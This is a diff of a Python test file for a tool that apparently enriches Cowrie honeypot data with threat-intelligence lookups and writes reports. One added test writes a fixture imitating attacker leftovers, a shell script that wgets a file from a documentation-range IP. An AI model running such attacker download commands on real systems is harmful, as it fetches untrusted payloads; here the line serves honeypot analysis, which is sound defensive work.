@@ -2,26 +2,28 @@
 
 import json
 from collections.abc import Iterator
+from datetime import date
 from pathlib import Path
 
 import pytest
 from sqlalchemy import inspect, text
 
+from cowrie_assets.clock import US_PER_DAY, now_us
+from cowrie_assets.enrichment.answers import Kind
+from cowrie_assets.enrichment.settings import SERVICES
+from cowrie_assets.enrichment.wanted import Wanted
+from cowrie_assets.enrichment.working_off import work_off
+from cowrie_assets.reports.files import write_reports
+from cowrie_assets.reports.periods import REPORT_TYPES, period_of
+from cowrie_assets.reports.staleness import stale_periods
+from cowrie_assets.settings import Settings
 from cowrie_assets.warehouse.engine import Warehouse
 from cowrie_assets_tests.cli.conftest import Cowrie
-from cowrie_assets_tests.enrichment.playing import SECRET, SECRET_NAME, Player, Way, played
+from cowrie_assets_tests.enrichment.playing import SECRET, SECRET_NAME, Clock, Player, Way, access_to, played
 
-HTTP_SERVICES = (
-    "VIRUSTOTAL",
-    "MALWAREBAZAAR",
-    "URLHAUS",
-    "THREATFOX",
-    "DSHIELD",
-    "GREYNOISE",
-    "ABUSEIPDB",
-    "SPUR",
-    "HIBP",
-)
+HTTP_SERVICES = [name.upper() for name in SERVICES if name != "cymru"]
+
+_DAYS = "SELECT DISTINCT SUBSTR(first_event_at, 1, 10) FROM session_summaries"
 
 
 @pytest.fixture
@@ -38,7 +40,7 @@ def player(monkeypatch: pytest.MonkeyPatch) -> Iterator[Player]:
         yield server
 
 
-def test_nothing_is_asked_that_is_not_configured(ingested: Cowrie) -> None:
+def test_nothing_is_asked_that_is_not_configured(ingested: Cowrie, monkeypatch: pytest.MonkeyPatch) -> None:
     ran = ingested("enrich")
     assert (ran.code, ran.out) == (1, "")
     assert ran.err == "Error: no service is asked: `cowrie-assets enrich status` says what each of them needs\n"
@@ -47,6 +49,9 @@ def test_nothing_is_asked_that_is_not_configured(ingested: Cowrie) -> None:
     assert status.out.splitlines()[0] == "VirusTotal: off (COWRIE_VIRUSTOTAL_KEY is not set)"
     assert "Team Cymru: off (COWRIE_CYMRU=on switches it on)" in status.out
     assert [each["on"] for each in ingested("enrich", "status", "--format", "json").json["services"]] == [False] * 10
+    monkeypatch.setenv("COWRIE_SPUR", "on")
+    assert "COWRIE_SPUR is on, and COWRIE_SPUR_KEY is not set" in ingested("doctor").out
+    monkeypatch.delenv("COWRIE_SPUR")
     named = ingested("enrich", "--service", "dshield")
     assert named.err == "Error: DShield is not asked: COWRIE_DSHIELD_CONTACT is not set\n"
 
@@ -75,11 +80,53 @@ def test_a_run_tells_what_came_of_it(ingested: Cowrie, player: Player, monkeypat
 
 def test_all_services_on_the_sample(ingested: Cowrie, player: Player) -> None:
     ran = ingested("enrich")
-    assert (ran.code, ran.out.count("answered")) == (0, len(HTTP_SERVICES)), ran.err
+    assert (ran.code, ran.out.count("\n")) == (0, len(HTTP_SERVICES)), ran.err
     assert ingested("validate").code == 0
     made = len(player.calls)
     again = ingested("enrich")
     assert (again.code, len(player.calls)) == (0, made)
+
+
+def test_a_week_of_answers_reaches_the_reports_concerned_and_no_other(
+    ingested: Cowrie, player: Player, sample_settings: Settings
+) -> None:
+    """A file of one day becomes known, and known as malicious, day after day."""
+    folder = sample_settings.report_dir
+    with Warehouse.open(sample_settings.database_url) as warehouse:
+        with warehouse.read() as connection:
+            seen = (
+                "SELECT MIN(session_day) AS day, MIN(shasum) AS shasum FROM ("
+                "SELECT DISTINCT shasum, SUBSTR(first_seen, 1, 10) AS session_day FROM files) AS f "
+                "GROUP BY shasum HAVING COUNT(*) = 1 ORDER BY shasum LIMIT 1"
+            )
+            day, shasum = connection.execute(text(seen)).one()
+            days = [date.fromisoformat(each) for each in connection.execute(text(_DAYS)).scalars()]
+        periods = {period_of(kind, each) for kind in REPORT_TYPES for each in days}
+        for period in periods:
+            write_reports(warehouse, period, folder, formats=["json"])
+        before = {file: file.read_bytes() for file in folder.rglob("*.json")}
+        clock = Clock(now_us() - 8 * US_PER_DAY)
+        player.unknown.add(shasum)
+        access = access_to(player.url, "virustotal")
+        for step in range(7):
+            if step == 2:
+                player.unknown.clear()
+                player.known[shasum] = {"last_analysis_stats": {"malicious": 0, "undetected": 60}}
+            if step == 4:
+                player.known[shasum] = {}
+            work_off(warehouse, [access], Wanted(named={Kind.FILE: [shasum]}, refresh=True), timing=clock.timing)
+            clock.us += US_PER_DAY
+        assert len(player.calls) == 7
+        with warehouse.read() as connection:
+            stale = {period for kind in REPORT_TYPES for period in stale_periods(connection, kind, now=now_us())}
+        assert stale == {period_of(kind, date.fromisoformat(day)) for kind in REPORT_TYPES}
+        for period in stale:
+            write_reports(warehouse, period, folder, formats=["json"])
+    changed = {file.parent.name for file, content in before.items() if file.read_bytes() != content}
+    assert changed == {period.label for period in stale}
+    document = json.loads((folder / "daily" / day / "aggregate.json").read_text())
+    assert document["enrichments"]["files"]["malicious"] == 1
+    assert ingested("validate").code == 0
 
 
 @pytest.mark.parametrize(
@@ -137,6 +184,16 @@ def test_lists_on_this_machine_are_matched(ingested: Cowrie, monkeypatch: pytest
     file.unlink()
     gone = ingested("enrich")
     assert (gone.code, "everything.netset" in gone.err) == (1, True)
+
+
+def test_what_attackers_left_is_looked_into(ingested: Cowrie, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    folder = tmp_path / "left"
+    folder.mkdir()
+    (folder / ("ab" * 32)).write_bytes(b"#!/bin/sh\nwget http://192.0.2.1/x\n")
+    monkeypatch.setenv("COWRIE_DOWNLOADS_DIR", str(folder))
+    assert ingested("enrich", "--dry-run").out == "downloads: would look into 1 folder\n"
+    assert ingested("enrich").out == "downloads: 1 file, 1 examined\n"
+    assert ingested("enrich", "--service", "downloads").out == "downloads: 1 file, 0 examined\n"
 
 
 def test_a_key_that_is_missing_or_no_reference_is_told_by_name_only(
